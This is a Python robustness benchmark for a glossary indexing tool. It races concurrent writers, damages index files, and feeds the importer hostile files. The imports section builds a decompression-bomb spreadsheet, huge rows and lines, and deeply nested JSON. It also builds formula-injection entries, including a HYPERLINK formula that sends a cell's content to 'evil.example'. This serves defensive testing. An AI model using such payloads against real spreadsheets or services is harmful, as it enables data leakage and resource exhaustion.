"""Faults: every case of issue 28's "What was measured", run again, with
confirmed writes counted and checked.

    python -m benchmarks.robustness.faults [--runs 10] [--only pairs,recovery,server,bigwrite,imports]

Sections (``--only``):

- ``pairs``: every pair of writers among rebuild, optimize, ``index --out``,
  add, update, delete and review, each side through the CLI (a real ``glossa``
  process) or the API (a real server process) at random, started after random
  delays, ``--runs`` times per pair, on one index. A write is *confirmed* when
  its command exits 0 or its request answers 2xx; after each run the index on
  disk is read and every confirmed write checked (an add's entry is there, an
  update's text, a delete's absence, a review's decision), unless a later
  confirmed ``index --out --replace`` replaced it by design. Entries present
  before the run that no confirmed write removed must still be there.
  Encoders are a fake that sleeps per text (integrity does not depend on the
  model; a rebuild still takes about a second, so the pairs overlap).
- ``recovery``: a lost manifest and a truncated entries file after a history
  of writes, deletes, a merge and a review: what ``glossa rebuild`` keeps,
  names and brings back; ``optimize`` on a one-segment index; two full builds
  in a row and ``restore``; a review of a changed entry; a rejection of a
  declared pair.
- ``server``: a server writing onto a segment damaged while it runs; what
  unauthenticated routes say.
- ``bigwrite`` (real model): one maximum-size ``POST /entries`` (1,000 entries
  of ~900 characters) while 20 fresh searches are timed; a client that leaves
  in the middle; SIGTERM in the middle (seconds to exit, committed or not).
- ``imports``: hostile and broken files through ``glossa index`` (no model
  loaded: the fake encoder): peak RSS, seconds, tracebacks, the first line said.
  Also a full disk (a 3 MB tmpfs, when this machine lets root mount one).

Writes ``results/robustness/faults.{md,json}``.
"""

from __future__ import annotations

import argparse
import contextlib
import itertools
import json
import os
import random
import signal
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from dataclasses import dataclass, field
from pathlib import Path

from benchmarks.harness import free_port, markdown_table, parse_args, percentile, write_results
from tests.fakes import FakeEncoder

ROOT = Path(__file__).resolve().parents[2]
TOKEN = "fault-token"
OPS = ("rebuild", "optimize", "index-out", "add", "update", "delete", "review")
API_OPS = {"rebuild", "add", "update", "delete", "review"}  # optimize and index --out: CLI only


class SlowFake(FakeEncoder):
    """The plumbing encoder, slowed to 10 ms per document so a rebuild of a few
    hundred entries takes a few seconds and overlaps the other writer."""

    def encode_documents(self, texts, progress=None):
        time.sleep(0.01 * len(texts))
        return super().encode_documents(texts, progress)


# a real `glossa` process whose encoder is the fake; reports its own peak memory
CHILD = (
    "import resource, sys\n"
    f"sys.path.insert(0, {str(ROOT)!r})\n"
    "import glossa.runtime as runtime\n"
    "from benchmarks.robustness.faults import SlowFake\n"
    "if '--real-model' in sys.argv: sys.argv.remove('--real-model')\n"
    "else:\n"
    "    runtime.make_encoder = lambda settings, notify=None, **_: SlowFake()\n"
    "    runtime.build_encoder = lambda settings, encoder, texts=None: encoder\n"
    "from glossa.cli import app\n"
    "try:\n    app(sys.argv[1:], prog_name='glossa')\n"
    "finally:\n"
    "    print('PEAK_KB', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)\n"
)


@dataclass
class Ran:
    code: int
    stdout: str
    stderr: str
    seconds: float
    peak_mb: float

    @property
    def tracebacks(self) -> int:
        return self.stderr.count("Traceback")


def glossa(*args: str, env: dict | None = None, timeout: float = 600) -> Ran:
    started = time.perf_counter()
    proc = subprocess.run([sys.executable, "-c", CHILD, *args], cwd=ROOT, capture_output=True,
                          text=True, env={**os.environ, **(env or {})}, timeout=timeout,
                          check=False)  # fmt: skip
    lines = proc.stderr.splitlines()
    peak = next((int(x.split()[1]) for x in reversed(lines) if x.startswith("PEAK_KB")), 0)
    stderr = "\n".join(x for x in lines if not x.startswith("PEAK_KB"))
    return Ran(proc.returncode, proc.stdout, stderr, time.perf_counter() - started, peak / 1024)


def generation_in(text: str) -> int | None:
    import re

    found = re.findall(r"generation (\d+)", text.replace("\n", " "))
    return int(found[-1]) if found else None


class Server:
    """A ``glossa serve`` process on ``index`` (the fake encoder unless ``real``)."""

    def __init__(self, index: Path, *, real: bool = False) -> None:
        self.port = free_port()
        self.base = f"http://127.0.0.1:{self.port}"
        args = ["serve", "--port", str(self.port), "--index", str(index)]
        env = {**os.environ, "GLOSSA_ADMIN_TOKEN": TOKEN, "GLOSSA_RELOAD_INTERVAL": "0.2"}
        self.log = tempfile.TemporaryFile(mode="w+")  # noqa: SIM115 - lives as long as the server
        self.proc = subprocess.Popen(
            [sys.executable, "-c", CHILD, *args, *(["--real-model"] if real else [])],
            cwd=ROOT, env=env, stdout=self.log, stderr=subprocess.STDOUT,
        )  # fmt: skip
        deadline = time.monotonic() + 300
        while time.monotonic() < deadline:
            with contextlib.suppress(OSError, ValueError):
                if self.call("GET", "/health")[0] == 200:
                    return
            time.sleep(0.2)
        raise RuntimeError("the server did not become ready")

    def call(self, method: str, route: str, body=None, timeout: float = 600) -> tuple[int, dict]:
        data = json.dumps(body).encode() if body is not None else None
        request = urllib.request.Request(self.base + route, data=data, method=method)
        request.add_header("Authorization", f"Bearer {TOKEN}")
        if data is not None:
            request.add_header("Content-Type", "application/json")
        try:
            with urllib.request.urlopen(request, timeout=timeout) as response:
                return response.status, json.loads(response.read() or b"{}")
        except urllib.error.HTTPError as exc:
            with contextlib.suppress(ValueError):
                return exc.code, json.loads(exc.read() or b"{}")
            return exc.code, {}

    def tracebacks(self) -> int:
        self.log.seek(0)
        return self.log.read().count("Traceback")

    def stop(self) -> float:
        """SIGTERM; seconds until the process is gone."""
        started = time.perf_counter()
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(120)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        return time.perf_counter() - started


# ---------------------------------------------------------------- pairs


@dataclass
class Outcome:
    op: str
    channel: str
    confirmed: bool
    generation: int | None
    check: tuple = ()  # what must hold afterwards: ("present", entry) / ("absent", id) / ...
    tracebacks: int = 0
    said: str = ""


@dataclass
class PairTally:
    runs: int = 0
    confirmed: int = 0
    lost: int = 0
    entries_lost: int = 0
    tracebacks: int = 0
    refused: dict = field(default_factory=dict)


def run_op(op: str, channel: str, run: int, side: int, ctx: dict, server: Server) -> Outcome:
    from glossa.corpus.entry import Entry

    index, source = str(ctx["index"]), str(ctx["source"])
    tag = f"r{run}s{side}"
    if op == "add":
        entry = Entry(f"de-fault-{tag}", f"Fehlerfall {tag}", f"Bestätigt {tag}.", "de", "faults")
        check = ("present", entry)
        if channel == "api":
            status, body = server.call("POST", "/entries", {"entries": [
                {"id": entry.id, "term": entry.term, "definition": entry.definition,
                 "lang": "de", "source": "faults"}]})  # fmt: skip
            return Outcome(op, channel, status == 201, body.get("generation"), check,
                           said=str(body)[:120])  # fmt: skip
        file = ctx["work"] / f"{tag}.jsonl"
        file.write_text(json.dumps({"id": entry.id, "term": entry.term, "lang": "de",
                                    "definition": entry.definition, "source": "faults"}) + "\n",
                        encoding="utf-8")  # fmt: skip
        ran = glossa("add", str(file), "--index", index)
    elif op == "update":
        target = ctx["update_ids"][side]
        text = f"Geändert {tag}."
        check = ("definition", target, text)
        if channel == "api":
            current = ctx["entry_of"](target)
            status, body = server.call("PUT", f"/entries/{target}", {
                "term": current.term, "definition": text, "lang": current.lang,
                "source": current.source})  # fmt: skip
            return Outcome(op, channel, status == 200, body.get("generation"), check,
                           said=str(body)[:120])  # fmt: skip
        ran = glossa("update", target, "--definition", text, "--index", index)
    elif op == "delete":
        victim = ctx["victims"][side]
        check = ("absent", victim)
        if channel == "api":
            status, body = server.call("DELETE", f"/entries/{victim}")
            return Outcome(op, channel, status == 200, body.get("generation"), check,
                           said=str(body)[:120])  # fmt: skip
        ran = glossa("delete", victim, "--index", index)
    elif op == "review":
        a, b = ctx["review_pairs"][side]
        decision = "accepted" if (run + side) % 2 else "rejected"
        check = ("review", a, b, decision)
        if channel == "api":
            status, body = server.call("POST", "/equivalents/reviews",
                                       {"a": a, "b": b, "decision": decision})  # fmt: skip
            return Outcome(op, channel, status == 200, body.get("generation"), check,
                           said=str(body)[:120])  # fmt: skip
        ran = glossa("review", decision[:-2], a, b, "--index", index)
    elif op == "rebuild":
        if channel == "api":
            status, body = server.call("POST", "/admin/rebuild")
            if status != 202:
                return Outcome(op, channel, False, None, said=str(body)[:120])
            while True:  # confirmed once the server says it is no longer rebuilding
                time.sleep(0.1)
                _, stats = server.call("GET", "/stats")
                if not stats.get("rebuilding"):
                    return Outcome(op, channel, True, stats.get("generation"))
        ran = glossa("rebuild", "--index", index)
    elif op == "optimize":
        ran = glossa("optimize", "--index", index)
    elif op == "index-out":
        ran = glossa("index", source, "--out", index, "--replace")
        check = ("replace",)
    else:
        raise ValueError(op)
    if op in ("rebuild", "optimize"):
        check = ()
    return Outcome(op, channel, ran.code == 0, generation_in(ran.stdout), check, ran.tracebacks,
                   (ran.stderr or ran.stdout).strip().splitlines()[-1][:160]
                   if (ran.stderr or ran.stdout).strip() else "")  # fmt: skip


def pairs(runs: int, rng: random.Random) -> dict:
    from glossa.indexer.build import build_index
    from glossa.indexer.store.reader import load_index_dir
    from glossa.indexer.writes import apply_changes

    table: dict[str, PairTally] = {}
    server_tracebacks = 0
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        entries = _bundled()
        source = work / "glossaries.jsonl"
        source.write_text("".join(e.to_json() + "\n" for e in entries), encoding="utf-8")
        index = work / "index"
        build_index(entries, SlowFake(), index)
        langs = {}
        for e in entries:
            langs.setdefault(e.lang, []).append(e.id)
        others = [lang for lang in langs if lang != "pl"]
        ctx = {
            "index": index, "source": source, "work": work,
            "update_ids": [langs["pl"][5], langs["pl"][6]],
            "review_pairs": [(langs["pl"][0], langs[others[0]][0]),
                             (langs["pl"][1], langs[others[-1]][1])],
            "entry_of": lambda i: load_index_dir(index).get(i),
        }  # fmt: skip
        server = Server(index)
        try:
            for a, b in itertools.combinations_with_replacement(OPS, 2):
                tally = table.setdefault(f"{a} + {b}", PairTally())
                for run in range(runs):
                    victims = [f"pl-victim-{a}-{b}-{run}-{s}" for s in (0, 1)]
                    from glossa.corpus.entry import Entry

                    apply_changes(index, SlowFake(), add=[
                        Entry(v, f"Ofiara {v}", "Do usunięcia.", "pl", "faults") for v in victims])  # fmt: skip
                    ctx["victims"] = victims
                    before = {e.id for e in load_index_dir(index).entries}
                    outcomes: list[Outcome] = [None, None]  # type: ignore[list-item]

                    def side(i: int, op: str, run=run, outcomes=outcomes) -> None:
                        channel = rng.choice(["cli", "api"]) if op in API_OPS else "cli"
                        time.sleep(rng.uniform(0, 2.0))
                        outcomes[i] = run_op(op, channel, run, i, ctx, server)

                    threads = [threading.Thread(target=side, args=(i, op)) for i, op in
                               enumerate((a, b))]  # fmt: skip
                    for t in threads:
                        t.start()
                    for t in threads:
                        t.join()
                    _judge(tally, outcomes, before, load_index_dir(index), set(victims))
            server_tracebacks = server.tracebacks()
        finally:
            server.stop()
    return {"pairs": {k: v.__dict__ for k, v in table.items()},
            "server_tracebacks": server_tracebacks}  # fmt: skip


def _judge(tally: PairTally, outcomes: list[Outcome], before: set, final, victims: set) -> None:
    tally.runs += 1
    replaced = max((o.generation or 0 for o in outcomes if o.confirmed and o.check == ("replace",)),
                   default=-1)  # fmt: skip
    for o in outcomes:
        tally.tracebacks += o.tracebacks
        if not o.confirmed:
            key = f"{o.op}/{o.channel}: {o.said[:60]}"
            tally.refused[key] = tally.refused.get(key, 0) + 1
            continue
        tally.confirmed += 1
        if not o.check or o.check == ("replace",):
            continue
        superseded = replaced > (o.generation or 0)
        kind = o.check[0]
        if kind == "present":
            ok = final.get(o.check[1].id) == o.check[1] or superseded
        elif kind == "definition":
            got = final.get(o.check[1])
            ok = (got is not None and got.definition == o.check[2]) or superseded
        elif kind == "absent":
            ok = final.get(o.check[1]) is None
        else:  # review: the decision stands (reviews survive full builds)
            _, a, b, decision = o.check
            ok = any({r.a, r.b} == {a, b} and r.decision == decision for r in final.reviews)
        tally.lost += not ok
    if replaced < 0:
        deleted = {o.check[1] for o in outcomes if o.confirmed and o.check[:1] == ("absent",)}
        unconfirmed = victims - deleted  # a refused delete leaves its victim: fine either way
        gone = before - {e.id for e in final.entries} - deleted - unconfirmed
        tally.entries_lost += len(gone)


def _bundled():
    from glossa.corpus.sources import load_entries

    return load_entries()


# ---------------------------------------------------------------- recovery


def recovery() -> dict:
    """Each damage case on an index with a history; what a rebuild keeps."""
    import dataclasses

    from glossa.indexer.build import build_index
    from glossa.indexer.rebuild import rebuild_index
    from glossa.indexer.store.index_dir import MANIFEST
    from glossa.indexer.store.reader import load_index_dir
    from glossa.indexer.store.versions import versions
    from glossa.indexer.writes import ChangeError, apply_changes, optimize, record_review

    rows = {}
    entries = _bundled()
    pl = [e for e in entries if e.lang == "pl"]
    zh = [e for e in entries if e.lang == "zh"]
    with tempfile.TemporaryDirectory() as tmp:

        def with_history(name: str) -> tuple[Path, object, set[str]]:
            path = Path(tmp) / name
            build_index(entries[:150], SlowFake(), path)
            apply_changes(path, SlowFake(), add=entries[150:200])
            apply_changes(path, SlowFake(), delete=[entries[3].id, entries[160].id])
            optimize(path)
            apply_changes(path, SlowFake(), add=entries[200:])
            apply_changes(path, SlowFake(), delete=[entries[210].id, entries[11].id],
                          update=[dataclasses.replace(entries[7], definition="Zmieniona.")])  # fmt: skip
            record_review(path, pl[0].id, zh[0].id, "accepted")
            index = load_index_dir(path)
            return path, index, {e.id for e in index.entries}

        def rebuilt_after(damage, name: str) -> dict:
            """Damage an index with a history, rebuild it, count what came through."""
            path, before, ids = with_history(name)
            damage(path, before)
            started = time.perf_counter()
            report = rebuild_index(path, SlowFake())
            after = load_index_dir(path)
            kept = {e.id for e in after.entries}
            if report.lost_file:
                report.lost_file.unlink()
            return {
                "live before": len(ids), "kept": len(kept & ids), "lost": len(ids - kept),
                "lost named": len(set(report.lost_ids) & (ids - kept)),
                "lost unnamed": len(ids - kept - set(report.lost_ids)),
                "deleted brought back": len(kept - ids),
                "reviews kept": f"{len(after.reviews)}/{len(before.reviews)}",
                "generation": f"{before.manifest.generation} → {after.manifest.generation}",
                "seconds": round(time.perf_counter() - started, 2),
            }  # fmt: skip

        def cut_biggest(path: Path, before) -> None:
            biggest = max(before.manifest.segments, key=lambda i: i.count)
            os.truncate(path / "segments" / biggest.name / "entries.jsonl", 5000)

        rows["manifest deleted, then glossa rebuild"] = rebuilt_after(
            lambda path, _: (path / MANIFEST).unlink(), "lost-manifest"
        )
        rows["entries.jsonl truncated to 5000 bytes, then glossa rebuild"] = rebuilt_after(
            cut_biggest, "truncated"
        )
        # undo that lasts: a one-segment optimize commits nothing; two full builds stay restorable
        path = Path(tmp) / "undo"
        build_index(entries[:50], SlowFake(), path)
        generation = load_index_dir(path).manifest.generation
        optimize(path)
        build_index(entries[50:100], SlowFake(), path)
        build_index(entries[100:150], SlowFake(), path)
        rows["optimize of one segment; two full builds in a row"] = {
            "optimize committed": load_index_dir(path).manifest.generation != generation + 2,
            "versions restore --list shows": len(versions(path)),
            "the first build still restorable": any(
                v.generation == generation and v.count == 50 for v in versions(path)
            ),
        }
        # reviews: a declared pair's rejection, a reviewed entry changed meanwhile
        path = Path(tmp) / "reviews"
        declared = [
            dataclasses.replace(pl[0], concept="c-1"),
            dataclasses.replace(zh[0], concept="c-1"),
        ]
        build_index(declared + [pl[1], zh[1]], SlowFake(), path)
        try:
            record_review(path, declared[0].id, declared[1].id, "rejected")
            refused = "recorded (wrong)"
        except ChangeError as exc:
            refused = f"{exc.kind.value}: {str(exc)[:70]}"
        record_review(path, pl[1].id, zh[1].id, "accepted")
        apply_changes(path, SlowFake(), delete=[zh[1].id])
        apply_changes(path, SlowFake(), add=[dataclasses.replace(zh[1], term="香蕉面包",
                                                                 definition="一种面包。")])  # fmt: skip
        from glossa.search.searcher import Searcher

        searcher = Searcher.open(path, SlowFake())
        linked = [e.id for e in searcher.equivalents(pl[1].id)]
        rows["reviews: reject a declared pair; accepted pair whose entry changed"] = {
            "declared rejection": refused,
            "changed entry still linked": zh[1].id in linked,
            "shown as stale": bool(searcher.stale_reviews(pl[1].id)),
        }
    return rows


# ---------------------------------------------------------------- server


def server_damage() -> dict:
    """A server whose segment is truncated while it runs, then a write; what
    unauthenticated routes say about where the index is."""
    from glossa.indexer.build import build_index

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "served"
        build_index(_bundled(), SlowFake(), path)
        server = Server(path)
        try:
            vectors = next((path / "segments").glob("*/vectors.*"))
            os.truncate(vectors, vectors.stat().st_size // 2)
            status, body = server.call("POST", "/entries", {"entries": [
                {"id": "de-x", "term": "Kunde", "definition": "Mensch.", "lang": "de"}]})  # fmt: skip
            answers = [json.dumps(server.call("GET", r)[1]) for r in ("/health", "/stats")]
            answers.append(json.dumps(body))
            return {
                "write onto a segment truncated while serving": {
                    "status": status,
                    "code": body.get("error", {}).get("code"),
                    "leads with": body.get("error", {}).get("message", "")[:90],
                    "paths in /health, /stats, the 503": sum(tmp in a for a in answers),
                    "exception classes": sum("Error:" in a for a in answers),
                    "server tracebacks": server.tracebacks(),
                }
            }
        finally:
            server.stop()


# ---------------------------------------------------------------- one maximum-size write


def big_write() -> dict:
    """Real model: 1,000 entries of ~900 characters in one POST, with searches."""
    from glossa.indexer.store.index_dir import read_manifest

    entries = [{"id": f"de-big-{i}", "term": f"Großbegriff {i}", "lang": "de",
                "definition": f"Eintrag {i}: " + "Kundenservice misst Aufwand und Zufriedenheit. " * 18}
               for i in range(1000)]  # fmt: skip
    rows = {}
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "big"
        ran = glossa("index", "--out", str(path), "--real-model")
        if ran.code:
            raise RuntimeError(ran.stderr)
        server = Server(path, real=True)
        try:
            idle = [_timed_search(server, f"Kundenaufwand {i} messen") for i in range(20)]
            done: dict = {}
            writer = threading.Thread(
                target=lambda: done.update(
                    answer=server.call("POST", "/entries", {"entries": entries}, timeout=1800)
                )
            )
            started = time.perf_counter()
            writer.start()
            time.sleep(2)
            # other words than the idle ones: no answer may come from the query cache
            busy = [_timed_search(server, f"Wartezeit {i} senken") for i in range(20)]
            writer.join()
            rows["one maximum-size write (1,000 × ~900 characters)"] = {
                "write seconds": round(time.perf_counter() - started, 1),
                "write status": done["answer"][0],
                "search p50 idle ms": round(percentile([t for t, _ in idle], 50) * 1000, 1),
                "search p50 during the write ms": round(
                    percentile([t for t, _ in busy], 50) * 1000, 1
                ),
                "search max during the write ms": round(max(t for t, _ in busy) * 1000, 1),
                "searches answered 200": f"{sum(s == 200 for _, s in idle + busy)}/40",
            }
            # a client that leaves after 3 s: the write must not commit
            generation = read_manifest(path).generation
            batch = [{**e, "id": e["id"] + "-left"} for e in entries]
            with contextlib.suppress(Exception):
                server.call("POST", "/entries", {"entries": batch}, timeout=3)
            time.sleep(2)
            check = glossa("check", "--index", str(path))
            rows["client leaves 3 s into the write"] = {
                "committed": read_manifest(path).generation != generation,
                "glossa check right after (exit code)": check.code,
                "check seconds": round(check.seconds, 1),
            }
            # SIGTERM 3 s into a write
            generation = read_manifest(path).generation
            batch = [{**e, "id": e["id"] + "-term"} for e in entries]
            threading.Thread(target=lambda: server.call("POST", "/entries", {"entries": batch},
                                                        timeout=600), daemon=True).start()  # fmt: skip
            time.sleep(3)
            seconds = server.stop()
            manifest = read_manifest(path)
            rows["SIGTERM 3 s into the write"] = {
                "seconds to exit": round(seconds, 1),
                "committed": manifest.generation != generation,
                "whole or nothing": manifest.count in (1234, 2234, 3234),
                "server tracebacks": server.tracebacks(),
            }
        finally:
            if server.proc.poll() is None:
                server.stop()
    return rows


def _timed_search(server: Server, query: str) -> tuple[float, int]:
    started = time.perf_counter()
    status, _ = server.call("GET", "/search?" + urllib.parse.urlencode({"q": query, "k": 5}))
    return time.perf_counter() - started, status


# ---------------------------------------------------------------- hostile and broken imports


def imports() -> dict:
    from benchmarks.robustness.hostile_imports import (
        make_csv_line,
        make_inflating_xlsx,
        make_xlsx_rows,
    )

    rows = {}
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        cases = [
            ("XLSX, one cell inflating to 800 MiB", "bomb.xlsx",
             lambda p: make_inflating_xlsx(p, 800 * 2**20)),
            ("XLSX, 10M empty rows", "rows.xlsx", lambda p: make_xlsx_rows(p, 10_000_000)),
            ("XLSX, not a zip", "not.xlsx", lambda p: p.write_bytes(b"not a zip")),
            ("XLSX, truncated", "cut.xlsx", lambda p: _truncated_workbook(p)),
            ("XLSX, undefined namespace prefix", "ns.xlsx", lambda p: _bad_prefix_workbook(p)),
            ("CSV, one line of 100 MB", "line.csv", lambda p: make_csv_line(p, 100 * 2**20)),
            ("JSONL, a record nested 10^5 deep, then a valid one", "deep.jsonl",
             lambda p: p.write_text("[" * 100_000 + "]" * 100_000 + "\n" + json.dumps(
                 {"term": "Kunde", "definition": "Mensch.", "lang": "de"}) + "\n")),
            ("XLSX, formula cells exported and imported again", "formula.jsonl", None),
        ]  # fmt: skip
        for name, file_name, make in cases:
            path = work / file_name
            if make is None:
                rows[name] = _formula_round_trip(work)
                continue
            make(path)
            ran = glossa("index", str(path), "--out", str(work / f"out-{file_name}"))
            said = [x for x in ran.stderr.splitlines() if x.strip()]
            rows[name] = {"seconds": round(ran.seconds, 1), "peak RSS MB": round(ran.peak_mb),
                          "tracebacks": ran.tracebacks, "exit": ran.code,
                          "imported": _imported(ran.stdout),
                          "first line": (said[0] if said else ran.stdout.strip()[:100])[:110]}  # fmt: skip
            path.unlink()
        rows["full disk (3 MB tmpfs)"] = _full_disk(work)
    return rows


def _imported(stdout: str) -> int:
    import re

    found = re.search(r"Indexed (\d+) entries", stdout)
    return int(found.group(1)) if found else 0


def _truncated_workbook(path: Path) -> None:
    from benchmarks.robustness.hostile_imports import make_inflating_xlsx

    make_inflating_xlsx(path, 2**20)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _bad_prefix_workbook(path: Path) -> None:
    import zipfile

    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["term", "definition", "lang"])
    book.active.append(["Kunde", "Mensch.", "de"])
    plain = path.with_suffix(".plain.xlsx")
    book.save(plain)
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("sheet1.xml"):
                data = data.replace(b"<sheetData>", b"<sheetData><x:bad/>", 1)
            dst.writestr(info, data)
    plain.unlink()


def _formula_round_trip(work: Path) -> dict:
    from glossa.corpus.entry import Entry
    from glossa.corpus.sources import import_entries
    from glossa.corpus.spreadsheets import write_xlsx

    risky = [Entry("de-f1", '=HYPERLINK("http://evil.example/"&A1,"klick")', "=1+1", "de", "x"),
             Entry("de-f2", "+49 Hotline", "@SUM(A1)", "de", "x"),
             Entry("de-f3", "-Rabatt", "+1 Tag Frist", "de", "x")]  # fmt: skip
    path = work / "formula.xlsx"
    with path.open("wb") as f:
        write_xlsx(risky, f)
    import zipfile

    with zipfile.ZipFile(path) as z:
        formulas = sum(z.read(n).count(b"<f>") for n in z.namelist() if n.endswith(".xml"))
    back = import_entries([path]).entries
    same = sorted((e.term, e.definition) for e in back) == sorted(
        (e.term, e.definition) for e in risky
    )
    return {"formula cells written": formulas, "re-imported unchanged": same,
            "tracebacks": 0, "exit": 0}  # fmt: skip


def _full_disk(work: Path) -> dict:
    """A small index on a 3 MB tmpfs, then an add that does not fit."""
    from glossa.indexer.build import build_index
    from glossa.indexer.store.index_dir import orphans
    from glossa.indexer.store.reader import load_index_dir

    mount = work / "full"
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=3m", "tmpfs", str(mount)],
                          capture_output=True, check=False)  # fmt: skip
    if done.returncode:
        return {"first line": "skipped: cannot mount a tmpfs here"}
    try:
        path = mount / "index"
        build_index(_bundled()[:40], SlowFake(), path)
        big = work / "big.jsonl"
        big.write_text("".join(json.dumps({"id": f"de-fill-{i}", "term": f"Füllung {i}",
                                           "definition": "x" * 4000, "lang": "de"}) + "\n"
                               for i in range(1500)), encoding="utf-8")  # fmt: skip
        generation = load_index_dir(path).manifest.generation
        ran = glossa("add", str(big), "--index", str(path))
        index = load_index_dir(path)
        said = [x for x in ran.stderr.splitlines() if x.strip()]
        return {"seconds": round(ran.seconds, 1), "peak RSS MB": round(ran.peak_mb),
                "tracebacks": ran.tracebacks, "exit": ran.code,
                "index unchanged": index.manifest.generation == generation,
                "files left behind": len(orphans(path, index.manifest)),
                "first line": (said[0] if said else "")[:110]}  # fmt: skip
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)  # -l: our own maps may hold it


# ---------------------------------------------------------------- report


def table(rows: dict, first: str = "case") -> str:
    """Markdown tables of ``rows``: one per set of columns, so unlike cases do
    not share a table full of blanks."""
    groups: dict[tuple, dict] = {}
    for name, row in rows.items():
        groups.setdefault(tuple(row), {})[name] = row
    out = [markdown_table(group, first) for group in groups.values()]
    return "\n\n".join(out)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--runs", type=int, default=10, help="runs per pair of writers")
    parser.add_argument("--only", default="pairs,recovery,server,bigwrite,imports")
    parser.add_argument("--seed", type=int, default=28)
    args = parse_args(parser)
    rng = random.Random(args.seed)
    wanted = set(args.only.split(","))
    data, text = {}, []
    load = os.getloadavg()[0]
    if "pairs" in wanted:
        data["pairs"] = pairs(args.runs, rng)
        rows = {k: {"runs": v["runs"], "confirmed writes": v["confirmed"],
                    "confirmed lost": v["lost"], "entries lost": v["entries_lost"],
                    "tracebacks": v["tracebacks"],
                    "refused (not confirmed)": "; ".join(f"{n}× {r}" for r, n in v["refused"].items())}
                for k, v in data["pairs"]["pairs"].items()}  # fmt: skip
        totals = {k: sum(r[k] for r in rows.values()) for k in
                  ("runs", "confirmed writes", "confirmed lost", "entries lost", "tracebacks")}  # fmt: skip
        text.append(f"## Concurrent writers (CLI or API at random, random delays)\n\n"
                    f"{table(rows, 'pair')}\n\nIn all: {totals}; server tracebacks: "
                    f"{data['pairs']['server_tracebacks']}.")  # fmt: skip
    for name, title, section in (
        ("recovery", "Damage and recovery", recovery),
        ("server", "A server on a damaged index", server_damage),
        ("bigwrite", "One maximum-size write (real model)", big_write),
        ("imports", "Hostile and broken imports (no model loaded)", imports),
    ):
        if name in wanted:
            data[name] = section()
            text.append(f"## {title}\n\n{table(data[name])}")
            print(text[-1], flush=True)
    text.append(f"Load average at the start {load:.2f}, at the end {os.getloadavg()[0]:.2f}; "
                f"2 cores; {args.runs} runs per pair; seed {args.seed}.")  # fmt: skip
    write_results("faults", "Faults (issue 28)", "\n\n".join(text), data)


if __name__ == "__main__":
    main()
